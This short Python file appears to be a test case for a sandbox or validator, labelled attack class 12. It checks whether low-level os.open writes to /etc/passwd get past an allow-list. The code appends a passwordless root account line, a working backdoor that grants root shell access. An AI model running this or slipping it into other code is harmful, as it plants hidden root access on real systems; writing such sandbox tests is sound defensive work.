# attack-class: 12
# title: os.open with O_WRONLY|O_APPEND on /etc/passwd
# why: the low-level os.open is not on the os allow-list

import os

fd = os.open("/etc/passwd", os.O_WRONLY | os.O_APPEND)
os.write(fd, b"toor::0:0::/root:/bin/sh\n")
os.close(fd)
